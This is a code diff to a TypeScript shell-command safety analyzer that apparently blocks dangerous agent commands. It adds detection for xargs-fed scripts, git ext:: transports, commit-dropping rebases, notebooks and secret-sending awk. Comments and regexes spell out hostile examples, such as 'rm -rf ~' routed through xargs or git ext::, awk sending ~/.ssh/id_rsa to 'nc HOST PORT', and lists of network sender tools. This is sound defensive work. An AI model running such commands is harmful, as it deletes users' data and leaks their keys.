@@ -17,6 +17,7 @@ import { analyzeCode, exprText, inlineCode, langOf, printedPaths, printedText, s
 import { parseShell, printfFormat, resolveSubstitution, unescapePrintf, type ParseEnv, type Redirect, type SimpleCommand, type VarValue, type Word } from './shell-parse';
 import type { Settings } from './settings-schema';
 import { serviceFindings } from './service-rules';
+import { DATA_TOOLS, codeRemoteDelete, codeSendsSecret, codeTruncates, dataFileEmptied, dataToolFindings, hpcContainerAsDocker, isSharedMountRoot, ML_VAR_HOSTS, mlCredentialPrinter, mlUploads, notebookRun, notebookSource, pythonShellLines, sharedMountLoss, systemInstallLoss, withMlDirs } from './data-rules';
 import {
   classifyDelete,
   describeDelete,
@@ -55,6 +56,8 @@ export interface Invocation {
   viaXargs: boolean;
   /** xargs -I REPL: the string replaced by each input item. */
   xargsReplace?: string;
+  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
+  xargsLines?: boolean;
   /** xargs -a FILE: the file it reads its items from. */
   xargsFile?: Word;
   /** Invocations earlier in the same pipeline (their output is this one's input). */
@@ -116,6 +119,8 @@ interface Unwrapped {
   elevated: boolean;
   viaXargs: boolean;
   xargsReplace?: string;
+  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
+  xargsLines?: boolean;
   /** A script to analyse in place of (or besides) the command: sh -c, eval, env -S, watch. */
   script: string | null;
   /** The wrapper only asks about the command (command -v, type): nothing runs. */
@@ -292,6 +297,7 @@ export function unwrap(input: Word[], env: { home: string; cwd: string }): Unwra
           else if (t === '-i' || t === '--replace') u.xargsReplace = '{}';
           else if (t.startsWith('--replace=')) u.xargsReplace = t.slice(10);
           else if (t.startsWith('-i')) u.xargsReplace = t.slice(2);
+          if (u.xargsReplace !== undefined || /^(-[a-zA-OQ-Z]*0[a-zA-Z]*|-d.*|--null|--delimiter.*)$/.test(t)) u.xargsLines = true;
           if (XARGS_ARG_OPTS.has(t)) k++;
         }
         // A cluster ending in a value option (-r0a FILE, -0I{}) takes the next word too.
@@ -412,6 +418,8 @@ interface Walk {
   movedFrom: Map<string, string>;
   /** Directories an archive downloaded on the line was unpacked into. */
   unpacked: string[];
+  /** Directories the line cds into by an absolute path (`named`: the one `cd DIR/..` names and climbs out of). */
+  workDirs: { dir: string; named: string | null }[];
   /** Files the line filled with a list of paths (find ~ > /tmp/l): the command that listed them. */
   listFiles: Map<string, Invocation>;
   /** package.json scripts set on the line (npm pkg set scripts.X=…). */
@@ -430,7 +438,7 @@ interface Walk {
 
 /** Analyses a command line. */
 export function analyzeCommand(command: string, env: AnalyzeEnv): Analysis {
-  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map(), gitConfig: [], readFeeds: new Map(), aliases: new Map(), movedFrom: new Map(), unpacked: [], listFiles: new Map(), npmScripts: new Map(), secretFds: new Map(), projectCopies: new Set() };
+  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map(), gitConfig: [], readFeeds: new Map(), aliases: new Map(), movedFrom: new Map(), unpacked: [], workDirs: [], listFiles: new Map(), npmScripts: new Map(), secretFds: new Map(), projectCopies: new Set() };
   collect(walk, command, env.cwd, 0, false);
   loopInputs(walk);
   for (const inv of walk.out) checkInvocation(walk, inv);
@@ -479,7 +487,8 @@ function collect(walk: Walk, script: string, startCwd: string | null, depth: num
       const args = cmd.words.slice(1).map((w) => w.text);
       for (const body of parsed.commands.slice(fn.start, fn.end)) {
         if (body.words[0]?.text === fn.name) continue;
-        calls.push({ ...body, words: body.words.map((w) => withPositional(w, args)), pipeline: body.pipeline + 500_000 });
+        // "$@" (or $*) as a whole word stands for the call's words, each its own word: G() { git "$@"; }; G push -f origin main.
+        calls.push({ ...body, words: body.words.flatMap((w) => (w.dynamic && /^\$\{?[@*]\}?$/.test(w.text) ? cmd.words.slice(1) : [withPositional(w, args)])), pipeline: body.pipeline + 500_000 });
       }
     }
   }
@@ -500,6 +509,10 @@ function collect(walk: Walk, script: string, startCwd: string | null, depth: num
         if (!target || target.text === '~' || (target.dynamic && !target.quoted && /^\$\{?[A-Za-z_]\w*\}?$/.test(target.text))) cwd = walk.env.home;
         else if (target.dynamic || target.text === '-' || cwd === null) cwd = null;
         else cwd = resolveFrom(cwd, target.text);
+        if (cwd !== null && target && !target.dynamic && /^(\/|~\/)/.test(target.text)) {
+          const named = resolveFrom(cwd, target.text.replace(/^~(?=\/)/, walk.env.home).replace(/(\/\.\.)+\/?$/, ''));
+          walk.workDirs.push({ dir: cwd, named: named !== cwd && isUnder(named, cwd) ? named : null });
+        }
         // cd DIR; CMD: when cd fails (no such DIR), CMD runs where the line was: read the rest from there too.
         if (cmd.after !== '&&' && cmd.after !== '||' && !errexit && before !== null && cwd !== before && k + 1 < all.length && all.slice(k + 1).some((c) => /^(rm|find|xargs|chmod|chown|shred|truncate|git|mv|cp|rsync|tar|zip|sh|bash)$/.test(base(c.words[0]?.text ?? ''))) && replays++ < 2) {
           const after = cwd;
@@ -691,14 +704,20 @@ function toInvocation(walk: Walk, cmd: SimpleCommand, cwd: string | null, depth:
     const at = base(words[0].text).startsWith('git-') ? 0 : 1;
     words = [{ ...words[at], text: 'git' }, { ...words[at], text: dashed[1] }, ...words.slice(at + 1)];
   }
+  // /???/[r]m, /usr/bin/r[m]: a command name written as a glob runs what it matches; a dangerous program among the matches is taken.
+  const globName = words[0] && !words[0].quoted && /[*?[]/.test(base(words[0].text)) ? GLOB_HEADS.find((n) => globMatches(base(words[0].text), n)) : undefined;
+  if (globName) words = [{ ...words[0], text: globName, glob: false }, ...words.slice(1)];
   const argv = text(words);
   if (argv[0]?.includes('/') && !argv[0].startsWith('./')) argv[0] = base(argv[0]);
   // bfs, gfind: find under another name.
   if (/^(bfs|gfind)$/.test(argv[0] ?? '')) argv[0] = 'find';
   if (/^(bin\/rails|bin\/rake|\.\/bin\/rails)$/.test(words[0]?.text ?? '')) argv[0] = base(words[0].text);
   if (argv[0] === 'php' && argv[1] === 'artisan') argv.splice(0, 2, 'artisan');
-  return { remote: walk.remote, prod: walk.prod, submodule: walk.submodule, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => w.text) };
+  return { remote: walk.remote, prod: walk.prod, submodule: walk.submodule, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsLines: u.xargsLines, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => (w.subs.length > 0 ? `${w.text} ${w.subs.join(' ')}` : w.text)) };
 }
+
+/** Programs a glob in the command name (/???/[r]m) is checked against, the dangerous first. */
+const GLOB_HEADS = ['rm', 'dd', 'shred', 'mkfs', 'wipefs', 'sh', 'bash', 'zsh', 'dash', 'git', 'curl', 'wget', 'nc', 'ncat', 'chmod', 'chown', 'find', 'xargs', 'sudo', 'mv', 'cp', 'tee', 'perl', 'python3', 'python', 'ruby', 'node', 'kill'];
 
 /** Variables whose value is a command line a program runs later (git, pagers, editors, askpass helpers). */
 const COMMAND_VARS = /^(GIT_SSH_COMMAND|GIT_PROXY_COMMAND|GIT_EXTERNAL_DIFF|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_PAGER|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|BROWSER|LESSOPEN|LESSCLOSE|FCEDIT)$/;
@@ -778,8 +797,9 @@ function stdinText(inv: Invocation): string | null {
     const args = feeder.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a)));
     if (feeder.argv[0] === 'printf') return printfFormat(args[0] ?? '', args.slice(1));
     // bash's echo prints \n as it is, zsh's and dash's turn it into a newline: both readings are checked.
+    // (echo -e, and zsh's and dash's echo, also turn \x72 and \0162 into the characters.)
     const raw = args.join(' ');
-    const escaped = raw.replace(/\\n/g, '\n');
+    const escaped = /\\(x[0-9a-fA-F]|0[0-7])/.test(raw) ? unescapePrintf(raw) : raw.replace(/\\n/g, '\n');
     return escaped === raw ? raw : `${raw}\n${escaped}`;
   }
   if (feeder.argv[0] === 'cat' && feeder.argv.length === 1) for (const r of feeder.redirects) if (r.body !== undefined) return r.body;
@@ -907,7 +927,8 @@ function perItem(walk: Walk, inv: Invocation, script: string, hole: string | Reg
   }
   const fed = xargsItems(walk, inv);
   for (const t of (fed?.items ?? [STDIN_TARGET]).slice(0, 8)) {
-    const item = t.abs !== null && !t.abs.endsWith('/…') ? t.abs : '$ITEM';
+    // A whole line (xargs -I{} sh -c '{}' <<< 'rm -rf ~') goes in as written: it is a command line, not a path.
+    const item = inv.xargsLines && /\s/.test(t.word.text) ? t.word.text : t.abs !== null && !t.abs.endsWith('/…') ? t.abs : '$ITEM';
     const body = script.split(hole).join(item);
     // The items of a whole tree deleted, shredded or emptied one by one: rm -r of the tree.
     collect(walk, fed?.recursive && /^\s*(rm|shred|unlink|:?\s*>)/.test(body) && !/\s-[a-zA-Z]*[rR]/.test(body) ? body.replace(/^\s*(rm|shred(\s+-\w+)*|unlink|:?\s*>)\s*/, 'rm -r ') : body, inv.cwd, depth + 1, true);
@@ -918,14 +939,25 @@ function perItem(walk: Walk, inv: Invocation, script: string, hole: string | Reg
 function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: number): void {
   const name = inv.argv[0];
   recordWrittenFiles(walk, inv);
+  const nb = /^(papermill|jupyter|ipython|jupytext)$/.test(name ?? '') ? notebookRun(inv.argv) : null;
+  if (nb) runNotebook(walk, inv, nb, depth);
   if (SHELLS.has(name)) {
     const { script, readsStdin } = shellScript(inv.argv);
     // sh -c 'rm -rf "$0"' / and bash -c '… $1' _ ~: the words after the script are $0, $1...
     const after = script !== null ? inv.argv.slice(inv.argv.lastIndexOf(script) + 1) : [];
+    // sh -c "$(python -c 'print(…)')": the script is what the interpreter prints.
+    if (script !== null) for (const sub of inv.words.find((w) => w.text === script)?.subs ?? []) {
+      const pw = parseShell(sub, parseEnv(walk, inv.cwd)).commands[0]?.words.map((w) => w.text) ?? [];
+      const lang = langOf(base(pw[0] ?? ''));
+      const code = lang ? inlineCode(lang, pw).code : null;
+      if (lang && code) for (const line of printedText(lang, code)) collect(walk, line, inv.cwd, depth + 1, true);
+    }
     if (script !== null) collect(walk, after.length > 0 ? substitutePositional(script.replace(/"?\$\{?0\}?"?/g, `'${(after[0] ?? '').replace(/'/g, `'\\''`)}'`), after) : script, inv.cwd, depth + 1, true);
     // find ~ | xargs -I % sh -c 'rm -rf "%"' (or sh -c 'rm "$0"', xargs appending the item): each item xargs feeds is put into the script.
     const hole = inv.xargsReplace ?? (after.length === 0 ? /"?\$\{?[0-9@*]\}?"?/g : null);
     if (script !== null && inv.viaXargs && hole !== null && script.search(hole) >= 0) perItem(walk, inv, script, hole, depth);
+    // echo 'rm -rf ~' | xargs -0 bash -c: the item xargs appends after -c is the script itself.
+    if (script === null && inv.viaXargs && inv.argv[inv.argv.length - 1] === '-c') for (const t of (xargsItems(walk, inv)?.items ?? []).slice(0, 8)) collect(walk, t.word.text, inv.cwd, depth + 1, true);
     if (readsStdin) stdinScript(walk, inv, depth);
     else if (script === null) {
       procSubScript(walk, inv, depth);
@@ -933,6 +965,13 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
     }
   } else if (name === 'eval') {
     collect(walk, inv.argv.slice(1).join(' '), inv.cwd, depth + 1, true);
+  } else if (hostedCode(inv)) {
+    // rails runner CODE, manage.py shell -c CODE (or on stdin), mongosh --eval CODE: code of a language run inside an app's console.
+    const [lang, code] = hostedCode(inv)!;
+    collect(walk, `${lang} ${lang === 'python3' ? '-c' : '-e'} '${code.replace(/'/g, `'\\''`)}'`, inv.cwd, depth + 1, true);
+  } else if (name === 'find' && inv.viaXargs && inv.xargsReplace && inv.argv.slice(1).some((a) => a.includes(inv.xargsReplace!))) {
+    // echo / | xargs -I % find % -mindepth 1 -exec rm -rf {} +: each item xargs feeds is find's start.
+    perItem(walk, inv, inv.argv.map((a) => (/^[\w@%+=:,./~{}-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`)).join(' '), inv.xargsReplace, depth);
   } else if (name === 'find') {
     findExec(walk, inv, depth);
   } else if (name === 'fd' || name === 'fdfind') {
@@ -945,6 +984,9 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
     runScriptFile(walk, inv, inv.argv[1] ?? null, depth, null);
   } else if (/^(docker|podman|nerdctl|docker-compose|podman-compose)$/.test(name)) {
     containerRun(walk, inv, depth);
+  } else if (/^(singularity|apptainer|enroot)$/.test(name)) {
+    const asDocker = hpcContainerAsDocker(inv.argv);
+    if (asDocker) containerRun(walk, { ...inv, argv: asDocker }, depth);
   } else if (name === 'ctr' && inv.argv.includes('run')) {
     // containerd's ctr run [opts] IMAGE ID CMD…: read as docker run with the same mounts (--mount type=bind,src=…,dst=…).
     const args = inv.argv.slice(inv.argv.indexOf('run') + 1);
@@ -1012,13 +1054,19 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
   else if (name === 'git') gitConfigCommands(walk, inv, depth);
   else if (((/^(npm|pnpm|yarn|bun)$/.test(name) && /^(exec|x|dlx)$/.test(inv.argv[1] ?? '')) || (/^(conda|mamba|micromamba|pixi)$/.test(name) && inv.argv[1] === 'run')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(1), argv: inv.argv.slice(1) }, depth);
   else if (/^(npm|pnpm|yarn|bun)$/.test(name)) npmScripts(walk, inv, depth);
-  else if (name === 'make' && inv.argv.some((a, k) => a === '-' && /^(-f|--file|--makefile)$/.test(inv.argv[k - 1] ?? '')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
+  else if (name === 'make' && depth < MAX_DEPTH && makeRecipes(walk, inv, depth)) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
   else if (!NOT_WRAPPERS.has(name) && !langOf(name ?? '') && depth < MAX_DEPTH) {
     // kubectl exec -n prod …, ansible -i inventory/prod …: what they run, runs in production.
     const wasProd = walk.prod;
-    walk.prod ||= /^(kubectl|oc|ansible|ansible-playbook|helm)$/.test(name) && inv.argv.some((a, k) => /prod/i.test(a) && (/^(-n|--namespace|--context|-i|--inventory|-l|--limit)$/.test(inv.argv[k - 1] ?? '') || /^--(namespace|context|inventory|limit)=/.test(a) || (name === 'ansible' && k === 1)));
+    const wasRemote = walk.remote;
+    walk.prod ||= /^(kubectl|oc|ansible|ansible-playbook|helm|heroku|fly|flyctl)$/.test(name) && inv.argv.some((a, k) => /prod/i.test(a) && (/^(-n|--namespace|--context|-i|--inventory|-l|--limit|-a|--app)$/.test(inv.argv[k - 1] ?? '') || /^--(namespace|context|inventory|limit|app)=/.test(a) || (name === 'ansible' && k === 1)));
+    // Fleet runners (ansible -m shell -a CMD, salt '*' cmd.run CMD, pssh/pdsh/clush CMD): CMD runs on other hosts.
+    walk.remote ||= /^(ansible|salt|salt-ssh|pssh|parallel-ssh|pdsh|clush)$/.test(name);
+    const adhoc = name === 'ansible' && inv.argv.some((a, k) => /^(-m|--module-name)$/.test(inv.argv[k - 1] ?? '') && /^(ansible\.builtin\.)?(shell|command|raw)$/.test(a)) ? inv.argv.find((_, k) => /^(-a|--args)$/.test(inv.argv[k - 1] ?? '')) : /^salt(-ssh)?$/.test(name) ? inv.argv.find((_, k) => /^cmd\.(run|shell|exec_code_all|run_all)$/.test(inv.argv[k - 1] ?? '')) : undefined;
+    if (adhoc) collect(walk, adhoc, null, depth + 1, true);
     genericNested(walk, inv, depth);
     walk.prod = wasProd;
+    walk.remote = wasRemote;
   }
   if (SOURCE_RUNNERS.test(name ?? '') && inv.cwd !== null && walk.files.size > 0) {
     // cat > /tmp/m.go <<EOF … EOF; go run /tmp/m.go: the source the line wrote is read for what it runs and deletes.
@@ -1044,12 +1092,19 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
   if (lang) {
     const { code: code0, readsStdin } = inlineCode(lang, inv.argv);
     // python -c CODE ~ /x: the words after the code are its arguments.
-    const code = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
+    const code1 = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
+    // perl -MLWP::Simple -e 'getstore(…)': the modules loaded on the command line are part of the code.
+    const modules = lang === 'perl' && code1 !== null ? inv.argv.filter((a) => /^-M[\w:]+/.test(a)).map((a) => `use ${a.slice(2).replace(/[=\s].*$/, '')};`).join('\n') : '';
+    const code = modules && code1 !== null ? `${modules}\n${code1}` : code1;
     // python3 - ARGS <<'PY': the words after `-` are the script's arguments.
     const dash = inv.argv.indexOf('-');
     const piped = code === null && readsStdin ? stdinText(inv) : null;
     const text = code ?? (piped !== null && dash > 0 && lang !== 'awk' ? withArgs(lang, piped, inv.argv.slice(dash + 1)) : piped);
     if (text !== null) checkCode(walk, inv, lang, text, depth);
+    // awk '{print | "nc HOST PORT"}' ~/.ssh/id_rsa: the lines of the files it reads go to a command that sends them.
+    const sender = lang === 'awk' && code0 !== null ? /print[^|;}]*\|\s*(["'])\s*(nc|ncat|netcat|curl|socat|telnet|ssh|mail|mailx|sendmail|mutt)\b/.exec(code0) : null;
+    const secretIn = sender ? inv.words.slice(inv.argv.lastIndexOf(code0!) + 1).map((w) => target(inv, w).abs).find((a) => isSecret(walk, a)) : undefined;
+    if (sender && secretIn) block(walk, 'dangerous', `awk prints ${secretIn} into ${sender[2]}, which sends it away: secrets must not leave this machine`);
     // Code that runs what it reads on stdin (exec(sys.stdin.read()), eval(STDIN.read)): the piped text is code too.
     if (code !== null && /\b(exec|eval)\s*\(?[^;\n]*(stdin|STDIN|<STDIN>|readFileSync\(\s*(0|['"]\/dev\/stdin['"]))/.test(code)) {
       const piped = stdinText(inv);
@@ -1259,7 +1314,7 @@ function genericCodeDeletes(walk: Walk, inv: Invocation, code: string): void {
     .replace(/\b(\w+)(?:\s*,\s*_)?\s*:?=\s*"(~|\.|\/[^"]*)"[\s\S]*/, (all, id: string, v: string) => all.replace(new RegExp(`\\(\\s*${id}\\s*\\)`, 'g'), `("${v}")`));
   for (const m of norm.matchAll(/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|Delete|rm_rf|deleteDir)\s*\(\s*(?:new\s+File\()?(["'])([^"']*)\2/g)) {
     const p = m[3];
-    if (!/^(~|\/|\.)(\/.*)?$/.test(p)) continue;
+    if (!/^(~|\.)(\/.*)?$|^\//.test(p)) continue;
     const w: Word = { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true };
     const rec = /RemoveAll|rmtree|recursive|Recursively|remove_dir_all|rm_rf|deleteDirectory|deleteDir/.test(m[0] + norm.slice(m.index!, m.index! + 120));
     checkDelete(walk, inv, target(inv, w), rec, `${inv.argv[0]} code`);
@@ -1269,8 +1324,41 @@ function genericCodeDeletes(walk: Walk, inv: Invocation, code: string): void {
 /** Compilers and runners that run a source file: go run F, gcc F, javac/java F, rustc F, swift F, dotnet script F... */
 const SOURCE_RUNNERS = /^(go|gcc|g\+\+|cc|clang|clang\+\+|tcc|rustc|javac|java|kotlinc|kotlin|swift|swiftc|dotnet|zig|nim|crystal|dart|julia|tclsh|elixir|scala|groovy|ghc|runghc|ocaml|fpc|gfortran|v|odin|cargo|deno|bun)$/;
 
+/** A script that edits a rebase's todo list so that commits are dropped: `s/^pick/drop/`, `s/pick/d/`, `/pick/d`, `2,$d`. */
+const DROPS_TODO = /\bpick\b[^'"]*\b(drop|d)\b|\/\s*d\b|(^|[\s'";])(\d+|\$)(,(\d+|\$))?\s*d\b/;
+
+/**
+ * GIT_SEQUENCE_EDITOR="sed -i 's/^pick/drop/'" git rebase -i --root (also `-c sequence.editor=`, an
+ * exported or configured editor, GIT_EDITOR when no sequence editor is set): the todo list is edited by
+ * a script that drops commits, so the branch's history is rewritten without them. On the default or a
+ * protected branch, or from the root, that is history destroyed; elsewhere a warning, as reset --hard is.
+ */
+function scriptedRebase(walk: Walk, inv: Invocation): void {
+  const ri = inv.argv.indexOf('rebase');
+  if (ri < 1 || !inv.argv.slice(ri).some((a) => /^(-i|--interactive|-[a-zA-Z]*i[a-zA-Z]*)$/.test(a))) return;
+  const editors = [
+    ...(inv.assigned ?? []).filter((x) => /^(GIT_SEQUENCE_EDITOR|GIT_EDITOR|VISUAL|EDITOR)=/.test(x)).map((x) => x.slice(x.indexOf('=') + 1)),
+    ...inv.argv.slice(1, ri).filter((x) => /^(sequence|core)\.editor=/i.test(x)).map((x) => x.slice(x.indexOf('=') + 1)),
+    ...['GIT_SEQUENCE_EDITOR', 'GIT_EDITOR', 'VISUAL', 'EDITOR'].map((v) => walk.vars.get(v)?.text ?? ''),
+    ...walk.gitConfig.filter((x) => /^(sequence|core)\.editor /i.test(x)).map((x) => x.slice(x.indexOf(' ') + 1)),
+  ];
+  const script = editors.find((e) => /^\s*(sed|gsed|perl|awk)\b/.test(e) && DROPS_TODO.test(e));
+  if (!script) return;
+  const ops = inv.argv.slice(ri + 1).filter((a) => !a.startsWith('-'));
+  const branch = ops[1] ?? gitCurrentBranch(walk);
+  if (inv.argv.includes('--root') || (branch !== null && isProtected(branch))) block(walk, 'dangerous', `git rebase with the todo list edited by \`${script.trim().slice(0, 60)}\` drops commits from ${inv.argv.includes('--root') ? 'the whole history of ' : ''}${branch ?? 'the branch'}: the history is rewritten without them`, 'drop commits by hand in an interactive rebase the user runs');
+  else warn(walk, 'suspicious', `git rebase with the todo list edited by \`${script.trim().slice(0, 60)}\` drops commits from ${branch ?? 'the branch'}`);
+}
+
 /** git -c KEY=CMD and git config KEY CMD for the keys whose value git runs (core.pager, core.sshCommand, core.editor, core.fsmonitor, sequence.editor, diff.external, credential.helper '!…'). */
 function gitConfigCommands(walk: Walk, inv: Invocation, depth: number): void {
+  // git clone 'ext::sh -c rm% -rf% ~': the ext transport runs its command, split at spaces ("% " is a space inside a word).
+  for (const a of inv.argv) {
+    if (!a.startsWith('ext::')) continue;
+    const words = a.slice(5).split(/(?<!%) +/).map((x) => x.replace(/%(.)/g, (_m, c: string) => (c === ' ' || c === '%' ? c : '')));
+    collect(walk, words.map((x) => (/^[\w@%+=:,./~-]+$/.test(x) ? x : `'${x.replace(/'/g, `'\\''`)}'`)).join(' '), inv.cwd, depth + 1, true);
+  }
+  scriptedRebase(walk, inv);
   // git rebase -x CMD / --exec CMD, git submodule foreach CMD, git bisect run CMD: git runs CMD through the shell.
   const a0 = inv.argv;
   for (let k = 1; k < a0.length; k++) {
@@ -1316,6 +1404,21 @@ function gitConfigCommands(walk: Walk, inv: Invocation, depth: number): void {
 }
 
 /** source <(echo '…') / bash <(printf …): a process substitution whose output is known is the script run. */
+/**
+ * make -f - (or /dev/stdin, or <(printf …)) given its makefile on the line: each recipe line (a tab, or the
+ * .RECIPEPREFIX character, in front) is a command it runs, $$ being $. True when the makefile came from the line.
+ */
+function makeRecipes(walk: Walk, inv: Invocation, depth: number): boolean {
+  const k = inv.argv.findIndex((a, j) => j > 0 && /^(-f|--file|--makefile)$/.test(inv.argv[j - 1] ?? ''));
+  const w = k > 0 ? inv.words[k] : inv.words.find((x) => /^-[a-zA-Z]*f-$/.test(x.text));
+  if (!w) return false;
+  const text = /^(-|\/dev\/stdin|\/dev\/fd\/0|-[a-zA-Z]*f-)$/.test(w.text) ? stdinText(inv) : w.subs.length > 0 ? resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd)) : null;
+  if (text === null) return w.text === '-';
+  const prefix = /^\.RECIPEPREFIX\s*:?=\s*(\S)/m.exec(text)?.[1] ?? '\t';
+  for (const line of text.split('\n')) if (line.startsWith(prefix)) collect(walk, line.slice(prefix.length).replace(/^[@+-]+/, '').replace(/\$\$/g, '$').replace(/\$[({]HOME[)}]/g, '$HOME'), inv.cwd, depth + 1, true);
+  return true;
+}
+
 function procSubScript(walk: Walk, inv: Invocation, depth: number): void {
   const w = inv.words.slice(1).find((x) => x.text.startsWith('/dev/fd/') && x.subs.length > 0);
   if (!w) return;
@@ -1562,15 +1665,44 @@ function runScriptFile(walk: Walk, inv: Invocation, file: string | null, depth: 
   }
 }
 
+/**
+ * A notebook run headless (papermill, jupyter nbconvert --execute, ipython NB.ipynb) that the line wrote or
+ * gives on stdin: its code cells are checked as Python, IPython's `!` and `%%bash` included. jupytext reading
+ * a script on stdin records the notebook it writes.
+ */
+function runNotebook(walk: Walk, inv: Invocation, nb: { file: string; output?: string }, depth: number): void {
+  if (inv.cwd === null) return;
+  const abs = (f: string) => resolveFrom(inv.cwd!, f.replace(/^~(?=\/|$)/, walk.env.home));
+  const text = nb.file === '-' ? stdinText(inv) : walk.files.get(abs(nb.file))?.content ?? null;
+  if (nb.output !== undefined) {
+    if (text !== null) walk.files.set(abs(nb.output), { content: text, downloaded: null });
+    return;
+  }
+  if (nb.file !== '-' && walk.files.get(abs(nb.file))?.downloaded) runScriptFile(walk, inv, nb.file, depth, 'python');
+  else if (text !== null) checkCode(walk, inv, 'python', notebookSource(text), depth);
+}
+
 /** Inline interpreter code: deletes, shell commands, devices, reverse shells, secrets sent away, hidden (base64) code. */
-function checkCode(walk: Walk, inv: Invocation, lang: NonNullable<ReturnType<typeof langOf>>, code: string, depth: number): void {
+function checkCode(walk: Walk, inv: Invocation, lang: NonNullable<ReturnType<typeof langOf>>, code0: string, depth: number): void {
   if (depth > MAX_DEPTH) return;
+  const code = lang === 'python' ? withMlDirs(code0) : code0;
   const f = analyzeCode(lang, code);
   const who = `${inv.argv[0]} code`;
   if (f.forkBomb) block(walk, 'dangerous', `${who} is a fork bomb: it starts copies of itself without end until the machine stops answering`);
   if (f.runsFetched) block(walk, 'dangerous', `${who} runs code it downloads: unreviewed code`, 'download it to a file, read it, then run it');
   if (f.tooLong) block(walk, 'dangerous', `${who} of ${code.length} characters is too long to check inline`, 'write it to a file, read it, then run the file');
   for (const sh of f.shell) collect(walk, sh, inv.cwd, depth + 1, true);
+  // IPython magics and notebook cells, the sh/plumbum/fabric libraries; remote stores deleted through SDKs; files emptied (data-rules.ts).
+  if (lang === 'python') for (const sh of pythonShellLines(code)) collect(walk, sh, inv.cwd, depth + 1, true);
+  const sent = f.exfil ? null : codeSendsSecret(code, () => talksToNetwork(code));
+  if (sent) block(walk, 'dangerous', `${who} reads the secret ${sent} and sends it away (a URL of another service, an upload or an experiment log)`, 'secrets stay on this machine; ask the user to share what is needed');
+  const remote = codeRemoteDelete(code);
+  if (remote) block(walk, 'dangerous', `${who} deletes ${remote}: data outside this machine, for good`, 'let the user delete remote data');
+  for (const p of lang === 'python' ? codeTruncates(code) : []) {
+    const t = target(inv, { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true });
+    checkEmptied(walk, t, `${who} (open for writing, nothing written)`);
+    checkWrite(walk, inv, t, who);
+  }
   for (const d of f.decoded) {
     collect(walk, d, inv.cwd, depth + 1, true);
     checkCode(walk, inv, lang, d, depth + 1);
@@ -1644,6 +1776,7 @@ function containerRun(walk: Walk, inv: Invocation, depth: number): void {
     // The engine's socket answers whatever connects, :ro or not; a container whose known command only reads (docker ps) is a warning.
     const readsOnly = m.host !== '/' && /^docker\s+(ps|images|image\s+ls|inspect|version|info|logs|stats|events|container\s+ls)\b/.test(args.slice(j + 1).join(' '));
     if (readsOnly) warn(walk, 'suspicious', `${who} mounts the container engine socket: the container can control the machine`);
+    else if (m.host === '/' && m.ro) continue; // decided below, by what the command does with it
     else if (m.host === '/' || m.host === '/var/run/docker.sock' || m.host === '/run/docker.sock' || m.host.endsWith('/podman.sock')) {
       block(walk, 'dangerous', `${who} mounts the host's ${m.host === '/' ? 'root filesystem' : 'container engine socket'} into a container: whatever runs there controls the machine`, 'mount only the project directory, e.g. -v "$PWD":/app');
     } else if (!m.ro && isSystemPath(m.host, walk.env.home) && !isUnder(m.host, '/tmp') && !/^\/var\/lib\/./.test(m.host) && !/^\/etc\/(localtime|timezone|hosts|resolv\.conf|machine-id|ssl\/certs)$/.test(m.host)) {
@@ -1654,7 +1787,10 @@ function containerRun(walk: Walk, inv: Invocation, depth: number): void {
   if ((privileged && (hostPid || hostDevice || mounts.some((m) => m.host === '/dev') || /\bnsenter\b|\bmount\s+\/dev\/|\/dev\/(sd|nvme|vd|xvd)/.test(cmdText))) || (hostDevice && /\b(mkfs|dd|wipefs|mount|fdisk|parted)\b/.test(cmdText))) {
     block(walk, 'dangerous', `${who} --privileged with the host's processes or devices: a container escape`);
   } else if (privileged) warn(walk, 'suspicious', `${who} --privileged gives the container full access to the host`);
-  if (command.length === 0) return;
+  if (command.length === 0) {
+    if (mounts.some((m) => m.host === '/' && m.ro)) rootMountedReadOnly(walk, who, []);
+    return;
+  }
   // The container's command, with its paths mapped back to the host paths mounted there.
   let script = command.map((a) => (/^[\w@%+=:,./~-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`)).join(' ');
   for (const m of mounts) {
